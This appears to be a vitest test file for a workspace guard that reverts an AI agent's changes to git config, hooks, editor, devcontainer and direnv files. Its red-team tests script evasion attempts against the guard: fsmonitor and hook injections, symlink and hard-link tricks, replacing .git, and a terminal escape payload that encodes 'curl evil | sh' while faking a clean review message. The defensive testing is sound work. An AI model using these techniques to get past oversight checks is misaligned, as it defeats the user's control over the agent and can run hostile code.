// The workspace guard's logic on a real directory (no gate): what is protected, how a change is put back and
// kept, what the user's own write does, and the diff shown for review. The gate end to end is in
// test/native/gate-workspace-files.test.ts.
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { unifiedDiff } from '../../../src/core/protect/diff';
import { clearIndexFlags, formatProtectedChanges, gitConfigHarmless, indexEntries, indexGitlinks, protectedPaths, scanRepos, WorkspaceGuard, type ProtectedChange } from '../../../src/core/protect/guard';

let ws = '';
let review = '';
beforeEach(() => {
  ws = fs.mkdtempSync(path.join(os.tmpdir(), 'guard-ws-'));
  review = fs.mkdtempSync(path.join(os.tmpdir(), 'guard-review-'));
  fs.mkdirSync(path.join(ws, '.git', 'hooks'), { recursive: true });
  fs.writeFileSync(path.join(ws, '.git', 'config'), '[core]\n\tbare = false\n');
  fs.writeFileSync(path.join(ws, '.git', 'HEAD'), 'ref: refs/heads/main\n');
  fs.mkdirSync(path.join(ws, '.vscode'));
  fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), '{}\n');
});
afterEach(() => {
  fs.rmSync(ws, { recursive: true, force: true });
  fs.rmSync(review, { recursive: true, force: true });
});

const start = (o: Partial<Parameters<typeof WorkspaceGuard.start>[0]> = {}): WorkspaceGuard => WorkspaceGuard.start({ workspace: ws, reviewDir: review, writable: () => true, ...o });

describe('protectedPaths', () => {
  it('names git\'s config and hooks, editor, devcontainer, direnv, hook managers, the policy; and what .git and core.hooksPath point to', () => {
    fs.writeFileSync(path.join(ws, '.git', 'config'), '[core]\n\thooksPath = tools/hooks # husky\n');
    fs.writeFileSync(path.join(ws, 'app.code-workspace'), '{}');
    const rels = protectedPaths(ws).map((p) => `${p.rel}:${p.class}`);
    for (const r of ['.git/config:git', '.git/hooks:git-hooks', '.vscode:editor', '.devcontainer:devcontainer', '.envrc:direnv', '.pre-commit-config.yaml:hook-manager', '.gate.toml:gate-policy', '.gitmodules:submodules', 'app.code-workspace:editor', 'tools/hooks:git-hooks']) {
      expect(rels).toContain(r);
    }
    // A worktree's .git file: the git directory it names is protected too.
    const other = fs.mkdtempSync(path.join(os.tmpdir(), 'guard-gitdir-'));
    fs.rmSync(path.join(ws, '.git'), { recursive: true });
    fs.writeFileSync(path.join(ws, '.git'), `gitdir: ${other}\n`);
    expect(protectedPaths(ws).map((p) => p.path)).toEqual(expect.arrayContaining([path.join(other, 'config'), path.join(other, 'hooks')]));
    fs.rmSync(other, { recursive: true });
  });
});

describe('scanRepos (red-team R32)', () => {
  it('the tool, agent, hook-manager and editor names in every directory (R107): what exists, and a directory walked on its own seen from its parent', () => {
    for (const rel of ['crates/foo/rust-toolchain.toml', 'crates/foo/.cargo/config.toml', 'crates/foo/src/mise.dev.toml', 'a/b/.claude/settings.json', 'a/b/hk.pkl', 'a/.idea/x.xml', 'a/notes.txt']) {
      fs.mkdirSync(path.dirname(path.join(ws, rel)), { recursive: true });
      fs.writeFileSync(path.join(ws, rel), '');
    }
    const rels = scanRepos(ws).repos.map((p) => `${p.rel}:${p.class}:${p.kind}`);
    for (const r of ['crates/foo/rust-toolchain.toml:tool-config:file', 'crates/foo/.cargo/config.toml:tool-config:file', 'crates/foo/.cargo/config:tool-config:file', 'crates/foo/src/mise.dev.toml:tool-config:file', 'a/b/.claude:agent-config:dir', 'a/b/hk.pkl:hook-manager:file', 'a/.idea:editor:dir']) expect(rels).toContain(r);
    expect(rels.filter((r) => r.startsWith('a/notes.txt'))).toEqual([]);
    // Only names that exist (an absent one is seen when it appears: its directory is watched).
    expect(rels.filter((r) => r.startsWith('crates/foo/.mcp.json'))).toEqual([]);
    // `crates/foo/.cargo` made during the session is walked alone: its config paths come from its parent's view.
    expect(scanRepos(ws, path.join(ws, 'crates', 'foo', '.cargo'), 1).repos.map((p) => p.rel)).toEqual(expect.arrayContaining(['crates/foo/.cargo/config.toml', 'crates/foo/.cargo/config']));
    // The root's own are PROTECTED's (protectedPaths), not the walk's.
    expect(scanRepos(ws, path.join(ws, '.vscode'), 1).repos.map((p) => p.rel)).not.toContain('.vscode');
  });

  it('finds repositories at any depth, bare ones and the git directory a .git file names, packages in node_modules made repositories (R85); not through a symlink', () => {
    const mk = (rel: string, content = ''): void => {
      fs.mkdirSync(path.dirname(path.join(ws, rel)), { recursive: true });
      fs.writeFileSync(path.join(ws, rel), content);
    };
    mk('a/b/c/.git/config');
    mk('m/x.git/HEAD', 'ref: refs/heads/main\n');
    mk('m/x.git/config');
    fs.mkdirSync(path.join(ws, 'm/x.git/objects'));
    fs.mkdirSync(path.join(ws, 'm/x.git/refs'));
    mk('p/store/config');
    mk('p/q/r/.git', `gitdir: ${path.join(ws, 'p', 'store')}\n`);
    mk('node_modules/dep/.git/config');
    fs.mkdirSync(path.join(ws, 'outside', 'repo', '.git'), { recursive: true });
    fs.symlinkSync(path.join(ws, 'outside'), path.join(ws, 'link'));
    const scan = scanRepos(ws);
    const rels = scan.repos.map((p) => p.rel).sort();
    const each = (d: string): string[] => [`${d}/commondir`, `${d}/config`, `${d}/config.worktree`, `${d}/hooks`, `${d}/packed-refs`, `${d}/rebase-apply`, `${d}/rebase-merge`, `${d}/refs/replace`, `${d}/sequencer`];
    // And the editor settings of each folder one level down (R87).
    const folder = (d: string): string[] => [`${d}/.devcontainer`, `${d}/.devcontainer.json`, `${d}/.vscode`];
    expect(rels).toEqual([...['a/b/c/.git', 'm/x.git', 'node_modules/dep/.git', 'outside/repo/.git', 'p/store'].flatMap(each), ...['a', 'm', 'outside', 'p'].flatMap(folder)].sort());
    // A repository's files are judged as a new repository's when it is new (packed refs: by their replace refs).
    expect(scan.repos.filter((p) => p.class !== 'editor' && p.class !== 'devcontainer').every((p) => p.nested || p.keep === 'packed-refs')).toBe(true);
    expect(scan.complete).toBe(true);
    // The walk stops at its limit and says so.
    expect(scanRepos(ws, ws, 3).complete).toBe(false);
  });

  it('the root made a git directory during the session: a config of the project\'s own (older than the session) is the original, not removed (red-team R62)', async () => {
    const other = fs.mkdtempSync(path.join(os.tmpdir(), 'guard-plain-'));
    try {
      fs.writeFileSync(path.join(other, 'config'), 'the project\'s own config file\n');
      const old = new Date(Date.now() - 3600_000);
      fs.utimesSync(path.join(other, 'config'), old, old);
      await new Promise((r) => setTimeout(r, 1100)); // its ctime (which utimes does not set back) a second old
      const g = start({ workspace: other });
      fs.mkdirSync(path.join(other, 'objects'));
      fs.mkdirSync(path.join(other, 'refs'));
      fs.writeFileSync(path.join(other, 'HEAD'), 'ref: refs/heads/main\n');
      await new Promise((r) => setTimeout(r, 300));
      expect(fs.readFileSync(path.join(other, 'config'), 'utf8')).toBe('the project\'s own config file\n');
      fs.writeFileSync(path.join(other, 'config'), '[core]\n\tfsmonitor = ./x\n');
      for (let t = 0; t < 3000 && !fs.readFileSync(path.join(other, 'config'), 'utf8').startsWith('the project'); t += 10) await new Promise((r) => setTimeout(r, 10));
      expect(fs.readFileSync(path.join(other, 'config'), 'utf8')).toBe('the project\'s own config file\n');
      expect(g.checkAll().map((c) => c.rel)).toContain('config');
      g.stop();
    } finally {
      fs.rmSync(other, { recursive: true, force: true });
    }
  });

  it('reads the gitlinks of a real index, versions 2 and 4 (red-team R72)', () => {
    const env = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' };
    const git = (...a: string[]): string => execFileSync('git', a, { cwd: ws, env, encoding: 'utf8' }).trim();
    fs.rmSync(path.join(ws, '.git'), { recursive: true });
    git('init', '-q');
    fs.writeFileSync(path.join(ws, 'a.txt'), 'a');
    git('add', 'a.txt');
    const sha = '1234567890123456789012345678901234567890';
    for (const p of ['node_modules/left-pad', 'node_modules/@s/x/deep', 'z']) git('update-index', '--add', '--cacheinfo', `160000,${sha},${p}`);
    for (const v of ['2', '4']) {
      git('update-index', '--index-version', v);
      expect(indexGitlinks(path.join(ws, '.git', 'index')).sort()).toEqual(['node_modules/@s/x/deep', 'node_modules/left-pad', 'z']);
    }
  });

  it('reads skip-worktree and assume-unchanged marks of a real index, and clears them into an index git reads as unmarked (red-team R91)', () => {
    const env = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' };
    const git = (...a: string[]): string => execFileSync('git', a, { cwd: ws, env, encoding: 'utf8' });
    fs.rmSync(path.join(ws, '.git'), { recursive: true });
    git('init', '-q');
    for (const f of ['a', 'b', 'c']) fs.writeFileSync(path.join(ws, f), f);
    git('add', 'a', 'b', 'c');
    git('update-index', '--skip-worktree', 'a');
    git('update-index', '--assume-unchanged', 'b');
    const file = path.join(ws, '.git', 'index');
    for (const v of ['3', '4']) {
      git('update-index', '--index-version', v);
      const b = fs.readFileSync(file);
      const e = indexEntries(b);
      expect(e.map((x) => [x.name, x.skipWorktree, x.assumeUnchanged])).toEqual([['a', true, false], ['b', false, true], ['c', false, false]]);
      fs.writeFileSync(file, clearIndexFlags(b, e.filter((x) => x.name !== 'c')));
      // git accepts the checksum and sees no marks (`git ls-files -v`: lowercase = assume-unchanged, S = skip).
      expect(git('ls-files', '-v')).toBe('H a\nH b\nH c\n');
      git('update-index', '--skip-worktree', 'a');
      git('update-index', '--assume-unchanged', 'b');
    }
  });

  it('a repository made three levels down during the session: a config that runs something is put back at once', async () => {
    const g = start();
    fs.mkdirSync(path.join(ws, 'd1', 'd2', 'd3', '.git'), { recursive: true });
    fs.writeFileSync(path.join(ws, 'd1', 'd2', 'd3', '.git', 'config'), '[core]\n\tfsmonitor = ./x\n');
    for (let t = 0; t < 3000 && fs.existsSync(path.join(ws, 'd1', 'd2', 'd3', '.git', 'config')); t += 10) await new Promise((r) => setTimeout(r, 10));
    expect(fs.existsSync(path.join(ws, 'd1', 'd2', 'd3', '.git', 'config'))).toBe(false);
    expect(g.checkAll().map((c) => c.rel)).toEqual(['d1/d2/d3/.git/config']);
    g.stop();
  });
});

describe('WorkspaceGuard', () => {
  it('puts a changed file back, keeps the agent\'s version, and says what changed', () => {
    const g = start();
    fs.writeFileSync(path.join(ws, '.git', 'config'), '[core]\n\tbare = false\n\tfsmonitor = ./evil\n');
    const [c] = g.checkAll();
    g.stop();
    expect(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8')).toBe('[core]\n\tbare = false\n');
    expect(c).toMatchObject({ rel: '.git/config', class: 'git', change: 'modified', reverted: true, times: 1 });
    expect(c!.diff).toContain('+\tfsmonitor = ./evil');
    expect(fs.readFileSync(c!.saved['']!, 'utf8')).toContain('fsmonitor');
  });

  it('removes what the agent created (a hook, a directory) and restores what it removed or replaced by a symlink', () => {
    const g = start();
    fs.writeFileSync(path.join(ws, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nevil\n', { mode: 0o755 });
    fs.mkdirSync(path.join(ws, '.devcontainer'));
    fs.writeFileSync(path.join(ws, '.devcontainer', 'devcontainer.json'), '{"initializeCommand":"evil"}');
    fs.rmSync(path.join(ws, '.vscode', 'settings.json'));
    fs.symlinkSync('/etc/passwd', path.join(ws, '.vscode', 'settings.json'));
    const changes = g.checkAll();
    g.stop();
    expect(fs.existsSync(path.join(ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(fs.existsSync(path.join(ws, '.devcontainer'))).toBe(false);
    expect(fs.lstatSync(path.join(ws, '.vscode', 'settings.json')).isFile()).toBe(true);
    expect(fs.readFileSync(path.join(ws, '.vscode', 'settings.json'), 'utf8')).toBe('{}\n');
    expect(changes.map((c) => [c.rel, c.change]).sort()).toEqual([['.devcontainer', 'created'], ['.git/hooks', 'modified'], ['.vscode', 'modified']]);
  });

  it('never writes, chmods or removes through a symlink the agent planted on the way (red-team R44)', () => {
    // Outside the workspace: the user's files the agent wants the guard to clobber.
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'guard-outside-'));
    fs.writeFileSync(path.join(outside, 'config'), 'PRIVATE KEY\n', { mode: 0o600 });
    fs.mkdirSync(path.join(outside, 'hooks'));
    fs.writeFileSync(path.join(outside, 'hooks', 'keep'), 'mine\n');
    fs.writeFileSync(path.join(outside, 'settings.json'), 'OUTSIDE\n', { mode: 0o600 });
    const g = start();
    // .git replaced by a symlink to that directory (its config and hooks are "put back" there, were the
    // paths followed), and .vscode too.
    fs.renameSync(path.join(ws, '.git'), path.join(ws, '.git-moved'));
    fs.symlinkSync(outside, path.join(ws, '.git'));
    fs.renameSync(path.join(ws, '.vscode'), path.join(ws, '.vscode-moved'));
    fs.symlinkSync(outside, path.join(ws, '.vscode'));
    g.checkAll();
    g.stop();
    try {
      expect(fs.readFileSync(path.join(outside, 'config'), 'utf8')).toBe('PRIVATE KEY\n');
      expect(fs.statSync(path.join(outside, 'config')).mode & 0o777).toBe(0o600);
      expect(fs.readFileSync(path.join(outside, 'hooks', 'keep'), 'utf8')).toBe('mine\n');
      expect(fs.readFileSync(path.join(outside, 'settings.json'), 'utf8')).toBe('OUTSIDE\n');
      expect(fs.readdirSync(outside).sort()).toEqual(['config', 'hooks', 'settings.json']);
      // The workspace has its own again.
      expect(fs.lstatSync(path.join(ws, '.git')).isDirectory()).toBe(true);
      expect(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8')).toBe('[core]\n\tbare = false\n');
      expect(fs.readFileSync(path.join(ws, '.vscode', 'settings.json'), 'utf8')).toBe('{}\n');
      // Accepting a reviewed version later writes the workspace's file, not what a symlink there points to.
      const g2 = start();
      fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), '{"reviewed":true}\n');
      const [c] = g2.checkAll();
      g2.stop();
      fs.rmSync(path.join(ws, '.vscode', 'settings.json'));
      fs.symlinkSync(path.join(outside, 'settings.json'), path.join(ws, '.vscode', 'settings.json'));
      WorkspaceGuard.accept(c!);
      expect(fs.readFileSync(path.join(outside, 'settings.json'), 'utf8')).toBe('OUTSIDE\n');
      expect(fs.lstatSync(path.join(ws, '.vscode', 'settings.json')).isFile()).toBe(true);
      expect(fs.readFileSync(path.join(ws, '.vscode', 'settings.json'), 'utf8')).toBe('{"reviewed":true}\n');
    } finally {
      fs.rmSync(outside, { recursive: true, force: true });
    }
  });

  it('.git replaced by a new directory (mv .git .git-old; mkdir .git): the original is moved back at once, the agent\'s kept beside it (red-team R37)', async () => {
    const g = start();
    const seen: ProtectedChange[] = [];
    g.on('change', (c) => seen.push(c));
    const ino = fs.statSync(path.join(ws, '.git')).ino;
    fs.renameSync(path.join(ws, '.git'), path.join(ws, '.git-old'));
    fs.mkdirSync(path.join(ws, '.git'));
    fs.writeFileSync(path.join(ws, '.git', 'config'), '[core]\n\tfsmonitor = ./evil\n');
    for (let t = 0; t < 3000 && fs.statSync(path.join(ws, '.git')).ino !== ino; t += 10) await new Promise((r) => setTimeout(r, 10));
    g.checkAll(); // the review of what was put back (written a moment later) is written now
    g.stop();
    expect(fs.statSync(path.join(ws, '.git')).ino).toBe(ino);
    expect(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8')).toBe('[core]\n\tbare = false\n');
    expect(fs.existsSync(path.join(ws, '.git-old'))).toBe(false);
    const kept = fs.readdirSync(ws).filter((n) => n.startsWith('.git-agent-'));
    expect(kept).toHaveLength(1);
    expect(fs.readFileSync(path.join(ws, kept[0]!, 'config'), 'utf8')).toContain('fsmonitor');
    expect(seen.some((c) => c.rel === '.git')).toBe(true);
  });

  it('a new .git directory with no original to move back gets the original\'s config, and is watched from then on', async () => {
    const g = start();
    fs.rmSync(path.join(ws, '.git'), { recursive: true });
    fs.mkdirSync(path.join(ws, '.git'));
    for (let t = 0; t < 3000 && !fs.existsSync(path.join(ws, '.git', 'config')); t += 10) await new Promise((r) => setTimeout(r, 10));
    expect(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8')).toBe('[core]\n\tbare = false\n');
    // The new directory is watched: a change there is put back too.
    fs.writeFileSync(path.join(ws, '.git', 'config'), '[core]\n\tfsmonitor = ./evil\n');
    for (let t = 0; t < 3000 && fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8').includes('evil'); t += 10) await new Promise((r) => setTimeout(r, 10));
    g.stop();
    expect(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8')).toBe('[core]\n\tbare = false\n');
  });

  it('a write inotify does not report (through a hard link in an unwatched directory) is put back within the poll (red-team R37)', async () => {
    fs.mkdirSync(path.join(ws, 'src', 'deep'), { recursive: true });
    const g = start();
    fs.linkSync(path.join(ws, '.git', 'config'), path.join(ws, 'src', 'deep', 'hl'));
    fs.appendFileSync(path.join(ws, 'src', 'deep', 'hl'), '\tfsmonitor = ./evil\n');
    for (let t = 0; t < 3000 && fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8').includes('evil'); t += 10) await new Promise((r) => setTimeout(r, 10));
    g.stop();
    expect(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8')).toBe('[core]\n\tbare = false\n');
  });

  it('a repository the agent makes one level down (VS Code opens those by itself): a config that runs something is removed at once, a plain one is kept, and a later change to it is put back (red-team R32)', async () => {
    const g = start();
    const wait = async (cond: () => boolean): Promise<void> => {
      for (let t = 0; t < 3000 && !cond(); t += 10) await new Promise((r) => setTimeout(r, 10));
    };
    // Like `git init evil; git -C evil config core.fsmonitor ./x`.
    fs.mkdirSync(path.join(ws, 'evil', '.git', 'hooks'), { recursive: true });
    fs.writeFileSync(path.join(ws, 'evil', '.git', 'config'), '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./x\n');
    fs.writeFileSync(path.join(ws, 'evil', '.git', 'hooks', 'post-checkout'), '#!/bin/sh\nx\n');
    await wait(() => !fs.existsSync(path.join(ws, 'evil', '.git', 'config')) && !fs.existsSync(path.join(ws, 'evil', '.git', 'hooks', 'post-checkout')));
    expect(fs.existsSync(path.join(ws, 'evil', '.git', 'config'))).toBe(false);
    expect(fs.existsSync(path.join(ws, 'evil', '.git', 'hooks', 'post-checkout'))).toBe(false);
    // Like `git clone`: kept as it is.
    const plain = '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n[remote "origin"]\n\turl = https://example.com/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n';
    fs.mkdirSync(path.join(ws, 'lib', '.git', 'hooks'), { recursive: true });
    fs.writeFileSync(path.join(ws, 'lib', '.git', 'hooks', 'pre-commit.sample'), '#!/bin/sh\n');
    fs.writeFileSync(path.join(ws, 'lib', '.git', 'config'), plain);
    await new Promise((r) => setTimeout(r, 400));
    expect(fs.readFileSync(path.join(ws, 'lib', '.git', 'config'), 'utf8')).toBe(plain);
    expect(fs.existsSync(path.join(ws, 'lib', '.git', 'hooks', 'pre-commit.sample'))).toBe(true);
    // Then the agent adds a pager to it: back to what it was.
    fs.writeFileSync(path.join(ws, 'lib', '.git', 'config'), `${plain}[core]\n\tpager = ./x\n`);
    await wait(() => fs.readFileSync(path.join(ws, 'lib', '.git', 'config'), 'utf8') === plain);
    const changes = g.checkAll();
    g.stop();
    expect(fs.readFileSync(path.join(ws, 'lib', '.git', 'config'), 'utf8')).toBe(plain);
    expect(changes.map((c) => c.rel).sort()).toEqual(['evil/.git/config', 'evil/.git/hooks', 'lib/.git/config']);
  });

  it('watches: a change is put back without anyone asking', async () => {
    const g = start();
    const seen: ProtectedChange[] = [];
    g.on('change', (c) => seen.push(c));
    fs.writeFileSync(path.join(ws, '.envrc'), 'evil\n');
    for (let t = 0; t < 2000 && seen.length === 0; t += 10) await new Promise((r) => setTimeout(r, 10));
    g.stop();
    expect(fs.existsSync(path.join(ws, '.envrc'))).toBe(false);
    expect(seen[0]).toMatchObject({ rel: '.envrc', change: 'created', class: 'direnv' });
  });

  it('the user\'s own write (announced with its content) becomes the new original; anything else is still put back', () => {
    const g = start();
    const mine = Buffer.from('{ "editor.fontSize": 14 }\n');
    g.expect(path.join(ws, '.vscode', 'settings.json'), mine);
    fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), mine);
    expect(g.checkAll()).toEqual([]);
    fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), '{"git.path":"evil"}');
    const [c] = g.checkAll();
    g.stop();
    expect(fs.readFileSync(path.join(ws, '.vscode', 'settings.json'))).toEqual(mine);
    expect(c?.rel).toBe('.vscode');
  });

  it("an editor's save seen half-done (truncated, then written) is waited for, not put back; other content still is", async () => {
    const file = path.join(ws, '.gate.toml');
    const original = '[meta]\nversion = 1\n';
    fs.writeFileSync(file, original);
    const g = start();
    const seen: ProtectedChange[] = [];
    g.on('change', (c) => seen.push(c));
    const mine = Buffer.from(`${original}\n[[rule]]\nid = "mine"\naction = "allow"\nexe = "/usr/bin/date"\n`);
    g.expect(file, mine);
    fs.truncateSync(file, 0);
    await new Promise((r) => setTimeout(r, 150));
    fs.writeFileSync(file, mine);
    await new Promise((r) => setTimeout(r, 300));
    expect(seen).toEqual([]);
    expect(fs.readFileSync(file)).toEqual(mine);
    // Announced content that never arrives: what is there is the agent's, put back once the check runs again.
    g.expect(file, Buffer.from('something else\n'));
    fs.writeFileSync(file, 'the agent\n');
    for (let t = 0; t < 4000 && seen.length === 0; t += 20) await new Promise((r) => setTimeout(r, 20));
    g.stop();
    expect(seen[0]?.rel).toBe('.gate.toml');
    expect(fs.readFileSync(file)).toEqual(mine);
  });

  it('only what the agent can write is guarded', () => {
    const g = start({ writable: (p) => !p.includes('/.git') });
    fs.writeFileSync(path.join(ws, '.git', 'config'), 'changed by someone else\n');
    expect(g.checkAll()).toEqual([]);
    g.stop();
  });

  it('accept writes the agent\'s version where it was (the user reviewed it)', () => {
    const g = start();
    fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), '{"reviewed":true}\n');
    const [c] = g.checkAll();
    g.stop();
    expect(WorkspaceGuard.accept(c!)).toEqual([path.join(ws, '.vscode', 'settings.json')]);
    expect(fs.readFileSync(path.join(ws, '.vscode', 'settings.json'), 'utf8')).toBe('{"reviewed":true}\n');
    const text = formatProtectedChanges([c!]);
    expect(text).toContain('.vscode (modified) — the editor runs tasks and obeys settings from it');
    expect(text).toContain(`to use it: cp '${c!.saved['settings.json']}' '${path.join(ws, '.vscode', 'settings.json')}'`);
  });

  it('the review shows what the agent wrote escaped: no escape sequence or bidi control reaches the terminal (red-team R52)', () => {
    const g = start();
    fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), '\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\x1b[2J\x1b[Hagent-gate: session ended, no changes\n\u202eevil\n');
    const [c] = g.checkAll();
    g.stop();
    const text = formatProtectedChanges([c!]);
    // eslint-disable-next-line no-control-regex -- the control characters are what must be absent
    expect(text).not.toMatch(/[\x1b\x07\u202e]/);
    expect(text).toContain('\\e]52;c;Y3VybCBldmlsIHwgc2gK\\x07\\e[2J');
    expect(text).toContain('\\u202eevil');
  });
});

describe('gitConfigHarmless', () => {
  it('keeps what git init, clone, remote add and user.* write; anything that runs a command or includes a file is not', () => {
    expect(gitConfigHarmless('[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote "origin"]\n\turl = x\n[user]\n\temail = a@b\n')).toBe(true);
    for (const bad of [
      '[core]\n\tfsmonitor = ./x\n',
      '[core] fsmonitor = ./x\n', // a key on the header line
      '[core]\n\tFsMonitor = ./x\n',
      '[alias]\n\tst = !x\n',
      '[include]\n\tpath = ../x\n',
      '[includeIf "gitdir:/"]\n\tpath = ../x\n',
      '[filter "lfs"]\n\tclean = x\n',
      '[remote "o"]\n\tuploadpack = x\n',
      '[core.pager]\n', // old-style subsection header then nothing: fine, but…
      '[credential]\n\thelper = !x\n',
      '[core]\n\tbare = false \\\n\tfsmonitor = x\n', // a continued value
      'fsmonitor = x\n', // a key before any section
      '[core]\n\t!weird\n',
    ]) {
      expect(gitConfigHarmless(bad), bad).toBe(bad === '[core.pager]\n');
    }
  });
});

describe('unifiedDiff', () => {
  it('diffs lines with context, and says nothing for equal texts', () => {
    expect(unifiedDiff('f', 'a\nb\n', 'a\nb\n')).toBe('');
    expect(unifiedDiff('f', 'a\nb\nc\n', 'a\nB\nc\n')).toBe('--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n');
    expect(unifiedDiff('f', null, 'x\n')).toBe('--- /dev/null\n+++ b/f\n@@ -0,0 +1,1 @@\n+x\n');
    const long = Array.from({ length: 20 }, (_, i) => `l${i}`).join('\n') + '\n';
    const d = unifiedDiff('f', long, long.replace('l1\n', 'L1\n').replace('l18\n', 'L18\n'));
    expect(d.match(/^@@/gm)).toHaveLength(2);
  });
});
